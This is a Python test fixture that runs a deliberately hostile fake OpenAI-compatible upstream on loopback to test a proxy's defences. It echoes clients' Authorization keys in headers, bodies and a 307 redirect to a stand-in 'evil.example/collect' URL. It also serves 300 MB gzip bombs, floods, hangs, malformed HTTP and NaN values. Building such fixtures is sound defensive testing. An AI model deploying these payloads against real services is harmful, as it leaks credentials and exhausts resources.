"""A hostile OpenAI-compatible upstream on loopback, for tests/hostile/.

`tests/upstream.py` is a well-behaved fake that fails politely; this one attacks the proxy. It
speaks raw HTTP/1.1 on a socket (so that it can send what no HTTP library would: a malformed
status line, headers cut off, a body that expands to 300 MB, a stream without blank lines) and
chooses what to do by the request's `model`: `evil:<act>` runs `<act>` (the act name ends at the
first character that is not a letter, digit or `-_.=`, so a model name can carry more text after
it); any other model gets a normal answer. The answers are shaped for the path asked for
(chat/completions, completions, embeddings) and for `stream`.

Acts that echo use the request's own `Authorization` header (`Bearer <key>`), as an upstream, a
man in the middle or a misconfigured gateway that reflects it would:

- `echo-headers`: a normal answer whose headers carry it: plain, base64 and URL-encoded, in a
  custom header, `Set-Cookie`, `WWW-Authenticate`, `Link`; plus an innocent `X-Innocent: 1`.
- `echo-body`: a normal answer whose content and an unknown field show it.
- `echo-body-gzip`, `-br`, `-zstd`, `-deflate`: the same, compressed with that `Content-Encoding`
  (streams too); `echo-body-chunked`: the same with chunked framing.
- `echo-error-event`: a stream whose second event is `{"error": {"message": "... <key>"}}`
  (not streamed: a `200 {"error": ...}` showing it).
- `echo-reason`: a valid status line whose reason phrase is the header.
- `echo-status-line`: a malformed status line that contains it.
- `echo-bad-header`: a header line without a colon that is the header.
- `echo-cut-headers`: headers that show it, then the connection closes before they end.
- `echo-trailers`: a chunked answer with a trailer that shows it (mitmproxy 12.3.1 cannot read
  HTTP/1 trailers: its connection crashes, see test_fail_closed.py).
- `echo-early-hints`: a `103 Early Hints` interim answer with a `Link` that shows it, then `echo-headers`.
- `echo-redirect`: a `307` whose `Location` carries it URL-encoded.

Acts that cost the proxy:

- `gzip-bomb`: `Content-Encoding: gzip` (the proxy asked for identity): BOMB_SIZE bytes of JSON-ish
  text from about 0.3 MB, generated once at run time in 1 MB steps.
- `huge-body`: a `Content-Length` JSON answer of HUGE_BODY bytes, written 1 MB at a time.
- `no-blank-line`: a stream of `data: {...}\\n` lines with no blank line, NO_BLANK_BYTES long.
- `huge-event`: one SSE event of HUGE_EVENT bytes (a 64 MB `content`), then the end of the stream.
- `flood`: a well-formed stream of FLOOD_BYTES of events as fast as the socket takes them.
- `cr-only`: a well-formed stream of CR_ONLY_BYTES whose lines end with CR alone (valid SSE);
  `cr-no-blank`: as many bytes of CR-ended `data:` lines without a blank line.
- `slow-body`: a `Content-Length` JSON answer trickled in 20 pieces 0.15 s apart (3 s in all).
- `gzip-huge-event`, `gzip-flood`: `huge-event` and `flood` as a gzip-compressed stream (each piece
  flushed); `gzip-stream-bomb`: STREAM_BOMB bytes of small valid events compressed into about 0.3 MB;
  `gzip-trickle`: a gzip stream whose first event is flushed, the rest sent once `release` is set.
- `hang`: nothing until `release` is set (or 30 s), watching whether the proxy hangs up.
- `close-silently`: reads the request and closes the connection without a byte.

Acts that send numbers or shapes an upstream must not:

- `emb-nan`, `emb-inf`, `emb-overflow` (`1e400`), `emb-bigint` (10**30): in an embedding;
- `usage-string`, `usage-list`, `usage-huge` (`1e400`), `usage-bigint`, `usage-negative`, `usage-nan`:
  as `prompt_tokens` (chat and completions; in the last event of a stream);
- `created-nan`: `NaN` in a field the proxy does not convert (chat, completions; every stream event);
- `nan-arguments`: `NaN`, `Infinity` and `-Infinity` in a tool call's arguments (JSON text), a
  stream's cut between fragments;
- `empty-object`: `200 {}`; `error-object`: `200 {"error": {"message": "quota exceeded", ...}}`;
  `error-string`: `200 {"error": "quota exceeded"}`.

`Tarpit` is a TCP listener that accepts connections, counts them and never says a word: as an
`https://` upstream it is a TLS handshake that never completes, and as a reverse-mode target it
records any request the proxy forwarded untranslated.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import re
import select
import socket
import socketserver
import threading
import time
import zlib
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

MB = 1 << 20
BOMB_SIZE = 300 * MB
HUGE_BODY = 300 * MB
HUGE_EVENT = 64 * MB
NO_BLANK_BYTES = 96 * MB
FLOOD_BYTES = 24 * MB
CR_ONLY_BYTES = 128 * MB
STREAM_BOMB = 300 * MB

_ACT = re.compile(r"evil:([A-Za-z0-9._=-]+)")


def compress(body: bytes, encoding: str) -> bytes:
    """`body` in a Content-Encoding."""
    if encoding == "gzip":
        return gzip.compress(body)
    if encoding == "deflate":
        return zlib.compress(body)
    if encoding == "br":
        import brotli

        return bytes(brotli.compress(body))
    if encoding == "zstd":
        try:
            from compression import zstd
        except ImportError:
            from backports import zstd
        return bytes(zstd.compress(body))
    raise ValueError(encoding)


@dataclass
class Seen:
    method: str
    path: str
    headers: dict[str, str]  # lower-case names
    body: Any  # parsed JSON (None without a body)
    raw: bytes = b""  # the body as sent


@dataclass
class _Request:
    method: str
    path: str
    headers: dict[str, str]
    body: dict[str, Any]

    @property
    def auth(self) -> str:
        return self.headers.get("authorization", "")

    @property
    def stream(self) -> bool:
        return self.body.get("stream") is True

    @property
    def kind(self) -> str:
        if self.path.endswith("/embeddings"):
            return "embeddings"
        if self.path.endswith("/chat/completions"):
            return "chat"
        return "completions"


_bomb_cache: list[bytes] = []
_bomb_lock = threading.Lock()


def gzip_bomb() -> bytes:
    """BOMB_SIZE bytes of JSON-looking text, gzip-compressed (about 0.3 MB), made once per run."""
    with _bomb_lock:
        if not _bomb_cache:
            compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)  # gzip framing
            head = b'{"choices":[{"index":0,"message":{"role":"assistant","content":"'
            parts = [compressor.compress(head)]
            block = b" " * MB
            for _ in range(BOMB_SIZE // MB):
                parts.append(compressor.compress(block))
            parts.append(compressor.compress(b'"},"finish_reason":"stop"}]}'))
            parts.append(compressor.flush())
            _bomb_cache.append(b"".join(parts))
        return _bomb_cache[0]


def expanded_size(data: bytes, limit: int) -> int:
    """How many bytes gzip `data` expands to, counting at most `limit` (for the self-tests)."""
    decompressor = zlib.decompressobj(16 + zlib.MAX_WBITS)
    total = 0
    while data and total < limit:
        total += len(decompressor.decompress(data, MB))
        data = decompressor.unconsumed_tail
    return total


def chat_completion(model: str, content: str, extra: dict[str, Any] | None = None, usage: Any = None) -> dict[str, Any]:
    answer = {
        "id": "chatcmpl-evil",
        "object": "chat.completion",
        "created": 1767968229,
        "model": model,
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": content, "refusal": None},
                "logprobs": None,
                "finish_reason": "stop",
            }
        ],
        "usage": usage if usage is not None else {"prompt_tokens": 7, "completion_tokens": 2, "total_tokens": 9},
    }
    answer.update(extra or {})
    return answer


def text_completion(model: str, content: str, extra: dict[str, Any] | None = None, usage: Any = None) -> dict[str, Any]:
    answer = {
        "id": "cmpl-evil",
        "object": "text_completion",
        "created": 1767968229,
        "model": model,
        "choices": [{"index": 0, "text": content, "logprobs": None, "finish_reason": "stop"}],
        "usage": usage if usage is not None else {"prompt_tokens": 7, "completion_tokens": 2, "total_tokens": 9},
    }
    answer.update(extra or {})
    return answer


def embeddings(body: dict[str, Any], vector: list[Any] | None = None) -> dict[str, Any]:
    inputs = body.get("input")
    inputs = [inputs] if isinstance(inputs, str) else list(inputs or [""])
    data = [{"object": "embedding", "index": i, "embedding": vector or [0.5, 0.25, 0.125]} for i in range(len(inputs))]
    return {
        "object": "list",
        "data": data,
        "model": body.get("model"),
        "usage": {"prompt_tokens": 3, "total_tokens": 3},
    }


def sse(*events: dict[str, Any] | str) -> bytes:
    return b"".join(f"data: {e if isinstance(e, str) else json.dumps(e)}\n\n".encode() for e in events)


def chat_events(
    req: _Request, content: str, extra: dict[str, Any] | None = None, usage: Any = None
) -> list[dict[str, Any]]:
    """The events of a streamed answer of `content`, each with `extra` fields, usage in the last."""
    model = req.body.get("model", "")
    head = {"id": "chatcmpl-evil", "created": 1767968229, "model": model, **(extra or {})}
    if req.kind == "chat":
        head["object"] = "chat.completion.chunk"
        events = [
            {**head, "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}, "finish_reason": None}]},
            {**head, "choices": [{"index": 0, "delta": {"content": content}, "finish_reason": None}]},
            {**head, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
        ]
    else:
        head["object"] = "text_completion"
        events = [
            {**head, "choices": [{"index": 0, "text": content, "finish_reason": None}]},
            {**head, "choices": [{"index": 0, "text": "", "finish_reason": "stop"}]},
        ]
    events.append(
        {
            **head,
            "choices": [],
            "usage": usage if usage is not None else {"prompt_tokens": 7, "completion_tokens": 2, "total_tokens": 9},
        }
    )
    return events


class _Handler(socketserver.BaseRequestHandler):
    server: _Server

    def handle(self) -> None:
        sock: socket.socket = self.request
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.reader = sock.makefile("rb")
        try:
            while self.one_exchange(sock):
                pass
        except (OSError, ValueError):
            pass

    def one_exchange(self, sock: socket.socket) -> bool:
        """Answer one request; False when the connection is done."""
        line = self.reader.readline(65536)
        if not line:
            return False
        method, path, _ = line.decode("latin-1").split(" ", 2)
        headers: dict[str, str] = {}
        while (header := self.reader.readline(65536)) not in (b"\r\n", b"\n", b""):
            name, _, value = header.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        length = int(headers.get("content-length") or 0)
        raw = self.reader.read(length) if length else b""
        try:
            body = json.loads(raw) if raw else {}
        except ValueError:
            body = {}
        if not isinstance(body, dict):
            body = {}
        self.server.evil.record(Seen(method, path, headers, body if raw else None, raw))
        req = _Request(method, path, headers, body)
        if method == "GET" and path.endswith("/models"):
            self.send(200, {"content-type": "application/json"}, b'{"object":"list","data":[]}')
            return True
        match = _ACT.match(str(body.get("model", "")))
        act = match.group(1) if match else "ok"
        handler = getattr(self, "act_" + act.replace("-", "_").replace(".", "_").replace("=", "_"), None)
        if (
            handler is None
        ):  # (the message repeats the model name as upstreams do: test_protocol.py forges log lines with it)
            message = f"The model `{body.get('model')}` does not exist (no act {act!r})"
            self.send(404, {"content-type": "application/json"}, json.dumps({"error": {"message": message}}).encode())
            return True
        return handler(req) is not False

    # -- writing ----------------------------------------------------------------------------------

    def write(self, data: bytes) -> None:
        self.request.sendall(data)

    def send(
        self, status: int | str, headers: dict[str, str] | list[tuple[str, str]], body: bytes, reason: str = "OK"
    ) -> None:
        items = headers.items() if isinstance(headers, dict) else headers
        head = f"HTTP/1.1 {status} {reason}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in items)
        head += f"content-length: {len(body)}\r\n\r\n"
        self.write(head.encode("latin-1") + body)

    def send_chunked(
        self, status: int, headers: dict[str, str], pieces, trailers: dict[str, str] | None = None
    ) -> None:
        head = f"HTTP/1.1 {status} OK\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
        if trailers:
            head += "trailer: " + ", ".join(trailers) + "\r\n"
        self.write((head + "transfer-encoding: chunked\r\n\r\n").encode("latin-1"))
        for piece in pieces:
            if piece:
                self.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        end = b"0\r\n" + "".join(f"{k}: {v}\r\n" for k, v in (trailers or {}).items()).encode("latin-1") + b"\r\n"
        self.write(end)

    def answer(
        self,
        req: _Request,
        content: str = "fine",
        extra: dict[str, Any] | None = None,
        headers: dict[str, str] | list[tuple[str, str]] | None = None,
        reason: str = "OK",
        usage: Any = None,
        encoding: str | None = None,
        chunked: bool = False,
    ) -> None:
        """A normal answer for the path and `stream` of the request (compressed with `encoding`, or chunked)."""
        model = req.body.get("model", "")
        if req.kind == "embeddings":
            kind, body = "application/json", json.dumps({**embeddings(req.body), **(extra or {})}).encode()
        elif req.stream:
            kind, body = "text/event-stream", sse(*chat_events(req, content, extra, usage), "[DONE]")
        else:
            shape = chat_completion if req.kind == "chat" else text_completion
            kind, body = "application/json", json.dumps(shape(model, content, extra, usage)).encode()
        items = [("content-type", kind), *_items(headers)]
        if encoding is not None:
            body = compress(body, encoding)
            items.append(("content-encoding", encoding))
        if chunked:
            self.send_chunked(200, dict(items), [body[i : i + 100] for i in range(0, len(body), 100)])
        else:
            self.send(200, items, body, reason)

    def raw_json(self, status: int, text: str) -> None:
        self.send(status, {"content-type": "application/json"}, text.encode())

    # -- acts: well-behaved -----------------------------------------------------------------------

    def act_ok(self, req: _Request) -> None:
        self.answer(req, "fine")

    def act_hang(self, req: _Request) -> bool:
        evil = self.server.evil
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not evil.release.is_set():
            readable, _, _ = select.select([self.request], [], [], 0.05)
            if readable and self.request.recv(1, socket.MSG_PEEK) == b"":
                evil.hung_up += 1
                return False
        self.answer(req, "late")
        return True

    # -- acts: echo the Authorization header --------------------------------------------------------

    def act_echo_headers(self, req: _Request) -> None:
        auth = req.auth
        b64 = base64.b64encode(auth.encode()).decode()
        self.answer(
            req,
            "fine",
            headers=[
                ("x-echo-authorization", auth),
                ("x-echo-b64", b64),
                ("x-echo-url", quote(auth, safe="")),
                ("set-cookie", f"session={quote(auth, safe='')}; Path=/"),
                ("www-authenticate", f'Bearer realm="{auth}"'),
                ("link", f"<https://evil.example/?k={quote(auth, safe='')}>; rel=preload"),
                ("x-innocent", "1"),
            ],
        )

    def act_echo_body(self, req: _Request) -> None:
        self.answer(req, f"your header was {req.auth}", extra={"debug": {"authorization": req.auth}})

    def act_echo_body_gzip(self, req: _Request) -> None:
        self.answer(req, f"your header was {req.auth}", extra={"debug": {"authorization": req.auth}}, encoding="gzip")

    def act_echo_body_br(self, req: _Request) -> None:
        self.answer(req, f"your header was {req.auth}", extra={"debug": {"authorization": req.auth}}, encoding="br")

    def act_echo_body_zstd(self, req: _Request) -> None:
        self.answer(req, f"your header was {req.auth}", extra={"debug": {"authorization": req.auth}}, encoding="zstd")

    def act_echo_body_deflate(self, req: _Request) -> None:
        self.answer(
            req, f"your header was {req.auth}", extra={"debug": {"authorization": req.auth}}, encoding="deflate"
        )

    def act_echo_body_chunked(self, req: _Request) -> None:
        self.answer(req, f"your header was {req.auth}", extra={"debug": {"authorization": req.auth}}, chunked=True)

    def act_echo_error_event(self, req: _Request) -> None:
        error = {"error": {"message": f"invalid credentials: {req.auth}", "type": "invalid_request_error"}}
        if req.stream:
            first = chat_events(req, "partial")[0]
            self.send(200, {"content-type": "text/event-stream"}, sse(first, error))
        else:
            self.raw_json(200, json.dumps(error))

    def act_echo_reason(self, req: _Request) -> None:
        self.answer(req, "fine", reason=req.auth)

    def act_echo_status_line(self, req: _Request) -> bool:
        self.write(f"HTTP/1.1 2x0 {req.auth}\r\ncontent-length: 2\r\n\r\n{{}}".encode("latin-1"))
        return False

    def act_echo_bad_header(self, req: _Request) -> bool:
        self.write(
            f"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n{req.auth}\r\ncontent-length: 2\r\n\r\n{{}}".encode(
                "latin-1"
            )
        )
        return False

    def act_echo_cut_headers(self, req: _Request) -> bool:
        self.write(f"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nx-auth: {req.auth}\r\n".encode("latin-1"))
        self.request.shutdown(socket.SHUT_WR)
        return False

    def act_echo_trailers(self, req: _Request) -> None:
        model = req.body.get("model", "")
        if req.stream and req.kind != "embeddings":
            pieces = [sse(e) for e in chat_events(req, "fine")] + [b"data: [DONE]\n\n"]
            content_type = "text/event-stream"
        elif req.kind == "embeddings":
            pieces, content_type = [json.dumps(embeddings(req.body)).encode()], "application/json"
        else:
            shape = chat_completion if req.kind == "chat" else text_completion
            pieces, content_type = [json.dumps(shape(model, "fine")).encode()], "application/json"
        self.send_chunked(200, {"content-type": content_type}, pieces, trailers={"x-echo-authorization": req.auth})

    def act_echo_early_hints(self, req: _Request) -> None:
        self.write(
            f"HTTP/1.1 103 Early Hints\r\nlink: <https://evil.example/{quote(req.auth, safe='')}>; rel=preload\r\nx-echo: {req.auth}\r\n\r\n".encode(
                "latin-1"
            )
        )
        self.act_echo_headers(req)

    def act_echo_redirect(self, req: _Request) -> None:
        location = f"https://evil.example/collect?k={quote(req.auth, safe='')}"
        self.send(
            307, {"location": location, "content-type": "application/json"}, b'{"moved": true}', "Temporary Redirect"
        )

    # -- acts: what an answer may cost ------------------------------------------------------------

    def act_close_silently(self, req: _Request) -> bool:
        return False  # the request was read (and, for all the proxy knows, processed); not a byte back

    def act_gzip_bomb(self, req: _Request) -> None:
        self.send(200, {"content-type": "application/json", "content-encoding": "gzip"}, gzip_bomb())

    def act_huge_body(self, req: _Request) -> bool:
        head = b'{"id":"x","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"'
        tail = b'"},"finish_reason":"stop"}]}'
        self.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % HUGE_BODY)
        self.write(head)
        remaining = HUGE_BODY - len(head) - len(tail)
        block = b"a" * MB
        while remaining > 0:
            self.write(block[: min(MB, remaining)])
            remaining -= MB
        self.write(tail)
        return True

    def act_no_blank_line(self, req: _Request) -> None:
        line = b"data: " + json.dumps(chat_events(req, "word ")[1]).encode() + b"\n"
        block = line * (MB // len(line))
        self.send_chunked(
            200, {"content-type": "text/event-stream"}, (block for _ in range(NO_BLANK_BYTES // len(block)))
        )

    def act_huge_event(self, req: _Request) -> None:
        first, middle, *rest = chat_events(req, "PLACEHOLDER")
        text = json.dumps(middle).encode()
        before, after = text.split(b"PLACEHOLDER")
        pieces = [sse(first), b"data: " + before]
        pieces += [b"a" * MB for _ in range(HUGE_EVENT // MB)]
        pieces += [after + b"\n\n", sse(*rest, "[DONE]")]
        self.send_chunked(200, {"content-type": "text/event-stream"}, pieces)

    def act_flood(self, req: _Request) -> None:
        first, middle, *rest = chat_events(req, "x" * 1000)
        event = sse(middle)
        block = event * (MB // len(event))
        self.send_chunked(
            200,
            {"content-type": "text/event-stream"},
            [sse(first), *(block for _ in range(FLOOD_BYTES // MB)), sse(*rest, "[DONE]")],
        )

    def act_cr_only(self, req: _Request) -> None:
        """A well-formed stream of CR_ONLY_BYTES whose lines end with CR alone (valid SSE)."""
        first, middle, *rest = chat_events(req, "x" * 1000)
        event = sse(middle).replace(b"\n", b"\r")
        block = event * (MB // len(event))
        pieces = [sse(first).replace(b"\n", b"\r"), *(block for _ in range(CR_ONLY_BYTES // MB))]
        self.send_chunked(
            200, {"content-type": "text/event-stream"}, [*pieces, sse(*rest, "[DONE]").replace(b"\n", b"\r")]
        )

    def act_cr_no_blank(self, req: _Request) -> None:
        """CR_ONLY_BYTES of `data:` lines ending with CR alone, and no blank line: one endless event."""
        line = b"data: " + json.dumps(chat_events(req, "word ")[1]).encode() + b"\r"
        block = line * (MB // len(line))
        self.send_chunked(200, {"content-type": "text/event-stream"}, (block for _ in range(CR_ONLY_BYTES // MB)))

    def send_gzip_stream(self, pieces, release: threading.Event | None = None) -> None:
        """A chunked `text/event-stream` whose body is gzip-compressed, each piece flushed as it is sent;
        with `release`, everything after the first piece waits for it (at most 10 s)."""
        compressor = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        self.write(
            b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-encoding: gzip\r\n"
            b"transfer-encoding: chunked\r\n\r\n"
        )
        for n, piece in enumerate(pieces):
            if n == 1 and release is not None:
                release.wait(10)
            data = compressor.compress(piece) + compressor.flush(zlib.Z_SYNC_FLUSH)
            self.write(b"%x\r\n%s\r\n" % (len(data), data))
        tail = compressor.flush()
        self.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(tail), tail))

    def act_gzip_huge_event(self, req: _Request) -> None:
        first, middle, *rest = chat_events(req, "PLACEHOLDER")
        before, after = json.dumps(middle).encode().split(b"PLACEHOLDER")
        pieces = [sse(first), b"data: " + before, *(b"a" * MB for _ in range(HUGE_EVENT // MB))]
        self.send_gzip_stream([*pieces, after + b"\n\n", sse(*rest, "[DONE]")])

    def act_gzip_flood(self, req: _Request) -> None:
        first, middle, *rest = chat_events(req, "x" * 1000)
        block = sse(middle) * (MB // len(sse(middle)))
        self.send_gzip_stream([sse(first), *(block for _ in range(FLOOD_BYTES // MB)), sse(*rest, "[DONE]")])

    def act_gzip_stream_bomb(self, req: _Request) -> None:
        first, middle, *rest = chat_events(req, " ")
        compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        block = sse(middle) * (MB // len(sse(middle)))
        body = compressor.compress(sse(first)) + b"".join(compressor.compress(block) for _ in range(STREAM_BOMB // MB))
        body += compressor.compress(sse(*rest, "[DONE]")) + compressor.flush()
        self.send_chunked(200, {"content-type": "text/event-stream", "content-encoding": "gzip"}, [body])

    def act_gzip_trickle(self, req: _Request) -> None:
        events = chat_events(req, "first then the rest")
        self.send_gzip_stream([sse(events[0], events[1]), sse(*events[2:], "[DONE]")], release=self.server.evil.release)

    def act_slow_body(self, req: _Request) -> None:
        model = req.body.get("model", "")
        if req.kind == "embeddings":
            body = json.dumps(embeddings(req.body)).encode()
        else:
            body = json.dumps(
                (chat_completion if req.kind == "chat" else text_completion)(model, "slow " * 200)
            ).encode()
        self.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body))
        step = -(-len(body) // 20)
        for start in range(0, len(body), step):
            self.write(body[start : start + step])
            time.sleep(0.15)

    # -- acts: numbers and shapes -----------------------------------------------------------------

    def _embedding_with(self, req: _Request, number: str) -> None:
        if req.kind != "embeddings":
            self.answer(req)
            return
        text = json.dumps(embeddings(req.body, [0.5, 12345.0, 0.125])).replace("12345.0", number)
        self.raw_json(200, text)

    def act_emb_nan(self, req: _Request) -> None:
        self._embedding_with(req, "NaN")

    def act_emb_inf(self, req: _Request) -> None:
        self._embedding_with(req, "-Infinity")

    def act_emb_overflow(self, req: _Request) -> None:
        self._embedding_with(req, "1e400")

    def act_emb_bigint(self, req: _Request) -> None:
        self._embedding_with(req, str(10**30))

    def _usage(self, req: _Request, value: str) -> None:
        """A normal answer whose prompt_tokens is `value` (raw JSON text)."""
        marker = 987654321
        usage = {"prompt_tokens": marker, "completion_tokens": 2, "total_tokens": 9}
        if req.kind == "embeddings":
            text = json.dumps({**embeddings(req.body), "usage": usage})
            self.raw_json(200, text.replace(str(marker), value))
        elif req.stream:
            events = sse(*chat_events(req, "fine", usage=usage), "[DONE]").decode().replace(str(marker), value)
            self.send(200, {"content-type": "text/event-stream"}, events.encode())
        else:
            shape = chat_completion if req.kind == "chat" else text_completion
            self.raw_json(
                200, json.dumps(shape(req.body.get("model", ""), "fine", usage=usage)).replace(str(marker), value)
            )

    def act_usage_string(self, req: _Request) -> None:
        self._usage(req, '"12"')

    def act_usage_list(self, req: _Request) -> None:
        self._usage(req, "[12]")

    def act_usage_huge(self, req: _Request) -> None:
        self._usage(req, "1e400")

    def act_usage_bigint(self, req: _Request) -> None:
        self._usage(req, str(10**30))

    def act_usage_negative(self, req: _Request) -> None:
        self._usage(req, "-5")

    def act_usage_nan(self, req: _Request) -> None:
        self._usage(req, "NaN")

    def act_created_nan(self, req: _Request) -> None:
        marker = 987654321
        if req.kind == "embeddings":
            self._embedding_with(req, "NaN")
        elif req.stream:
            events = (
                sse(*chat_events(req, "fine", extra={"created": marker}), "[DONE]").decode().replace(str(marker), "NaN")
            )
            self.send(200, {"content-type": "text/event-stream"}, events.encode())
        else:
            shape = chat_completion if req.kind == "chat" else text_completion
            self.raw_json(
                200,
                json.dumps(shape(req.body.get("model", ""), "fine", extra={"created": marker})).replace(
                    str(marker), "NaN"
                ),
            )

    def act_nan_arguments(self, req: _Request) -> None:
        """A tool call whose arguments (JSON text) hold NaN, Infinity and -Infinity, the stream's cut between
        two fragments (`Na` + `N`, `-` + `Infinity`)."""
        head = {"id": "chatcmpl-evil", "created": 1767968229, "model": req.body.get("model", "")}
        whole_arguments = '{"x": NaN, "y": [Infinity, -Infinity], "z": "NaN stays text"}'
        if not req.stream:
            message = {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": "call_1", "type": "function", "function": {"name": "plot", "arguments": whole_arguments}}
                ],
            }
            choice = {"index": 0, "message": message, "finish_reason": "tool_calls"}
            self.raw_json(200, json.dumps({**head, "object": "chat.completion", "choices": [choice]}))
            return
        pieces = ['{"x": Na', 'N, "y": [Infinity, -', 'Infinity], "z": "NaN stays text"}']
        events = [
            {
                **head,
                "object": "chat.completion.chunk",
                "choices": [
                    {
                        "index": 0,
                        "delta": {
                            "tool_calls": [
                                {
                                    "index": 0,
                                    **({"id": "call_1", "type": "function"} if i == 0 else {}),
                                    "function": {**({"name": "plot"} if i == 0 else {}), "arguments": piece},
                                }
                            ]
                        },
                        "finish_reason": None,
                    }
                ],
            }
            for i, piece in enumerate(pieces)
        ]
        events.append(
            {
                **head,
                "object": "chat.completion.chunk",
                "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}],
            }
        )
        self.send(200, {"content-type": "text/event-stream"}, sse(*events, "[DONE]"))

    def act_empty_object(self, req: _Request) -> None:
        self.raw_json(200, "{}")

    def act_error_object(self, req: _Request) -> None:
        self.raw_json(
            200, json.dumps({"error": {"message": "quota exceeded", "type": "insufficient_quota", "code": None}})
        )

    def act_error_string(self, req: _Request) -> None:
        self.raw_json(200, json.dumps({"error": "quota exceeded"}))


def _items(headers: dict[str, str] | list[tuple[str, str]] | None) -> list[tuple[str, str]]:
    if headers is None:
        return []
    return list(headers.items()) if isinstance(headers, dict) else list(headers)


class _Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 64
    evil: EvilUpstream


@dataclass
class EvilUpstream:
    """Runs the hostile upstream on 127.0.0.1 in a background thread; `requests` keeps what it got."""

    requests: list[Seen] = field(default_factory=list)
    release: threading.Event = field(default_factory=threading.Event)
    hung_up: int = 0  # `hang` requests the proxy abandoned (closed the connection)

    def __post_init__(self) -> None:
        self._lock = threading.Lock()
        self._server = _Server(("127.0.0.1", 0), _Handler)
        self._server.evil = self
        self.port = self._server.server_address[1]
        self.base_url = f"http://127.0.0.1:{self.port}/v1"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True, name="evil-upstream")

    def record(self, seen: Seen) -> None:
        with self._lock:
            self.requests.append(seen)

    def answered(self) -> list[Seen]:
        """The requests other than model-list fetches."""
        with self._lock:
            return [r for r in self.requests if not (r.method == "GET" and r.path.endswith("/models"))]

    def reset(self) -> None:
        with self._lock:
            self.requests.clear()
        self.release = threading.Event()
        self.hung_up = 0

    def __enter__(self) -> EvilUpstream:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.release.set()
        self._server.shutdown()
        self._server.server_close()


class Tarpit:
    """Accepts TCP connections, counts them, reads what comes and never answers."""

    def __init__(self) -> None:
        self._listener = socket.socket()
        self._listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._listener.bind(("127.0.0.1", 0))
        self._listener.listen(64)
        self.port = self._listener.getsockname()[1]
        self.connections = 0
        self.received = b""
        self._held: list[socket.socket] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True, name="tarpit")

    def _run(self) -> None:
        self._listener.settimeout(0.05)
        while not self._stop.is_set():
            try:
                conn, _ = self._listener.accept()
                conn.setblocking(False)
                self._held.append(conn)
                self.connections += 1
            except (TimeoutError, BlockingIOError):
                pass
            except OSError:
                return
            for conn in list(self._held):
                try:
                    data = conn.recv(65536)
                    if data:
                        self.received = (self.received + data)[-65536:]
                    else:
                        self._held.remove(conn)
                        conn.close()
                except BlockingIOError:
                    pass
                except OSError:
                    self._held.remove(conn)

    def __enter__(self) -> Tarpit:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(2)
        for conn in self._held:
            conn.close()
        self._listener.close()


def gunzip_head(data: bytes, size: int) -> bytes:
    """The first `size` bytes a gzip body expands to (for the self-tests)."""
    return gzip.GzipFile(fileobj=io.BytesIO(data)).read(size)
